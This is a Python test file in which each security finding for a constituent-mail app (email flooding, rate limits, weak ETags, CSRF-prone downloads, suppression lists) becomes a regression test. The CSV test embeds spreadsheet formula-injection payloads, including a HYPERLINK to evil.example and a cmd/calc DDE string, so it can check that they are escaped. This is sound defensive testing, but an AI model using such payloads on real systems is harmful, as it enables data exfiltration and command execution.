"""An attacker's review of this session's new endpoints: each test is a finding, written before its fix."""

from __future__ import annotations

import re

from rq import SimpleWorker

from outbound import subscriptions
from workers.queues import OUTBOUND, get_queue

_CSRF = re.compile(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"')


def _public_list(session, factory, name="District update"):
    boss = factory.staffer(role="supervisor")
    made = subscriptions.create_list(session, name, description="Monthly news", public=True, actor_id=boss.id)
    session.commit()
    return made


def _sign_up(client, list_id: int, address: str):
    page = client.get(f"/subscribe/{list_id}").get_data(as_text=True)
    return client.post(f"/subscribe/{list_id}", data={"email": address, "csrf_token": _CSRF.search(page).group(1)})


def test_signing_one_address_up_again_and_again_mails_it_only_a_few_confirmations(
        client, session, factory, redis, job_env, smtp_server, monkeypatch):
    """Finding: every sign-up POST for a pending address queued another confirmation email, so anyone could
    flood a stranger's inbox from the public page (limited only by 120 requests a minute per client)."""
    chosen = _public_list(session, factory)
    monkeypatch.setenv("MAILROOM_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("MAILROOM_SMTP_PORT", str(smtp_server.port))
    monkeypatch.setenv("MAILROOM_SMTP_SECURITY", "none")
    worker = SimpleWorker([get_queue(OUTBOUND, redis)], connection=redis)
    for _ in range(6):
        answer = _sign_up(client, chosen.id, "Victim@Example.org")
        # The page answers the same every time: it never says whether a mail went out.
        assert answer.status_code == 200 and "Check your email" in answer.get_data(as_text=True)
        worker.work(burst=True)
    sent = [m for m in smtp_server.inbox.messages if m["To"] == "victim@example.org"]
    assert 1 <= len(sent) <= 3


def test_one_client_cannot_send_sign_up_confirmations_to_many_addresses(client, session, factory):
    """Finding: the public sign-up shared the 120-a-minute budget of the public pages, so one client could have
    Mailroom email a confirmation to thousands of arbitrary addresses an hour."""
    chosen = _public_list(session, factory)
    codes = [_sign_up(client, chosen.id, f"person{n}@example.org").status_code for n in range(21)]
    assert codes[:20] == [200] * 20
    assert codes[20] == 429


def test_the_mail_house_csv_runs_no_formula_a_constituent_typed():
    """Finding: the printed letters' mail-house CSV wrote names and addresses as typed, so a constituent named
    =HYPERLINK(...) became a live formula in the mail house's spreadsheet (every other CSV is made safe)."""
    import csv
    import io

    from correspondence.models import Constituent, Response
    from drafting.printing import mail_house_csv

    person = Constituent(first_name="=HYPERLINK(\"http://evil.example/?\"&A1", last_name="x\")",
                         address1="@SUM(1+1)", address2="+cmd|' /C calc'!A0", city="-2+3", state="OH",
                         zip5="43215")
    rows = list(csv.reader(io.StringIO(mail_house_csv([(Response(id=7), person)]))))
    assert rows[1][1].startswith("'=HYPERLINK")
    assert rows[1][2:5] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3"]
    assert rows[1][0] == "7" and rows[1][5:] == ["OH", "43215"]


def test_an_update_refuses_a_weak_etag_in_if_match(client, session, factory):
    """Finding (low): If-Match took W/"..." as a match, but RFC 9110 (13.1.1) says If-Match compares strongly
    and a weak tag never matches; the API only ever hands out strong tags."""
    from correspondence.models import Role
    from correspondence.services.api_tokens import create_api_token

    lc = factory.staffer(Role.CORRESPONDENT)
    person = factory.constituent()
    _t, plain = create_api_token(session, name="CRM", scopes=["constituents:read", "constituents:write"], days=5,
                                 actor_id=lc.id)
    session.commit()
    headers = {"Authorization": f"Bearer {plain}"}
    read = client.get(f"/api/v1/constituents/{person.id}", headers=headers)
    etag = read.headers["ETag"]
    assert not etag.startswith("W/")
    weak = client.patch(f"/api/v1/constituents/{person.id}", json={"city": "Dayton"},
                        headers={**headers, "If-Match": f"W/{etag}"})
    assert weak.status_code == 412
    strong = client.patch(f"/api/v1/constituents/{person.id}", json={"city": "Dayton"},
                          headers={**headers, "If-Match": etag})
    assert strong.status_code == 200 and strong.get_json()["city"] == "Dayton"


def test_the_subject_access_zip_is_downloaded_only_by_a_button_with_its_csrf_token(app):
    """Finding (low): the ZIP of everything about a person came from a GET that writes an audit event, so
    another site could send a signed-in supervisor's browser there (a top-level link carries the Lax cookie):
    a copy of a person's data saved on their machine and a download in the history they never made. The
    office's whole-data export was already a POST for this reason; the access ZIP is now the same."""
    [rule] = [r for r in app.url_map.iter_rules() if r.endpoint == "privacy.access_download"]
    assert "GET" not in rule.methods and "POST" in rule.methods


def test_no_sign_up_confirmation_goes_to_an_address_that_reported_spam_or_bounced(
        client, session, factory, redis, job_env, smtp_server, monkeypatch):
    """Finding: the confirmation email skipped the suppression list, so anyone could have Mailroom email an
    address that reported the office's mail as spam, or that hard-bounced, by typing it into the sign-up page
    (outbound.suppression: those get no email at all)."""
    from correspondence.models import SuppressionReason
    from outbound.suppression import suppress

    chosen = _public_list(session, factory)
    suppress(session, "Angry@Example.org", SuppressionReason.COMPLAINT, detail="ARF report", actor_id=None)
    suppress(session, "gone@example.org", SuppressionReason.INVALID, detail="5.1.1", actor_id=None)
    suppress(session, "left@example.org", SuppressionReason.UNSUBSCRIBED, detail="one click", actor_id=None)
    session.commit()
    monkeypatch.setenv("MAILROOM_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("MAILROOM_SMTP_PORT", str(smtp_server.port))
    monkeypatch.setenv("MAILROOM_SMTP_SECURITY", "none")
    for address in ("angry@example.org", "gone@example.org", "left@example.org"):
        assert "Check your email" in _sign_up(client, chosen.id, address).get_data(as_text=True)
    SimpleWorker([get_queue(OUTBOUND, redis)], connection=redis).work(burst=True)
    # Someone who only unsubscribed from follow-ups may sign up for a newsletter themself: that one goes.
    assert [m["To"] for m in smtp_server.inbox.messages] == ["left@example.org"]
